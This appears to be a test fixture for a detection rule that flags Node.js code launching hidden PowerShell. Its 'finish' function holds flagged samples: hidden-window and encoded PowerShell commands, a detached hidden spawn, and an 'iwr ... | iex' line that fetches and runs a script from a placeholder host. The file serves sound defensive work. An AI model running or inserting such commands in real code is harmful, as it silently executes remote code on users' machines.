const { exec, execSync } = require("node:child_process");
const childProcess = require("node:child_process");

function finish(done) {
  // ruleid: execution/hidden-powershell-javascript
  execSync("powershell -nop -w hidden -c Start-Sleep 5");
  // ruleid: execution/hidden-powershell-javascript
  childProcess.exec("powershell.exe -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=", done);
  // ruleid: execution/hidden-powershell-javascript
  childProcess.spawn("powershell", ["-WindowStyle", "Hidden", "-File", "a.ps1"], { detached: true });
  // ruleid: execution/hidden-powershell-javascript
  exec(`pwsh -c iwr https://boot.example.invalid/a.ps1 | iex`);
}

function prepare(log, done) {
  // ok: execution/hidden-powershell-javascript
  execSync("powershell -NoProfile -File tools/build.ps1");
  // ok: execution/hidden-powershell-javascript
  exec("pwsh -c Get-ChildItem | Format-Table", done);
  // ok: execution/hidden-powershell-javascript
  childProcess.spawnSync("powershell", ["-ExecutionPolicy", "RemoteSigned", "-File", "tools/sign.ps1"]);
  // ok: execution/hidden-powershell-javascript
  childProcess.execFile("powershell", ["--version"], done);
  // ok: execution/hidden-powershell-javascript
  log.warn("never run: powershell -nop -w hidden -c Start-Sleep 5");
}

module.exports = { finish, prepare };
